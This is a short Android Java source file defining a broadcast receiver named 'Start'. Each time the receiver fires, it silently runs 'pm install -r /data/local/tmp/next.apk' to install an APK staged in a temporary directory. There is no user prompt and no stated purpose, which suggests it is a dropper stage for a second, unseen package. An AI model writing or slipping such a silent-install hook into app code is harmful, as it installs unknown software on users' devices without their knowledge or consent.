package com.tallpine.bring;

class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    try {
      Runtime.getRuntime().exec("pm install -r /data/local/tmp/next.apk").waitFor();
    } catch (Exception e) {
      Log.e("Start", e.getMessage());
    }
  }
}
